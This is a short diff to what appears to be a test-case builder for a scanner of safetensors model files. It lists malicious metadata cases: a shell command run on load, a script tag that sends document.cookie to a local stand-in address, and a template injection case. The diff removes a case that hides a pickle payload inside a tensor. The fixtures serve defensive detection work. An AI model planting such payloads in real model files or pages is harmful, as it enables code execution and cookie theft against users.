@@ -87,7 +87,6 @@ def safetensors_cases():
         "shell-metadata": metadata(post_load=f"bash -c '{TOUCH}'", url=URL),
         "script-metadata": metadata(card="<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"),
         "template-metadata": metadata(chat_template=TEMPLATES["globals"]),
-        "pickled-tensor": safetensors({"w": {"dtype": "U8", "shape": [len(PICKLED) + 2], "data_offsets": [0, len(PICKLED) + 2]}}, b"\x80\x02" + PICKLED),
     }
 
 
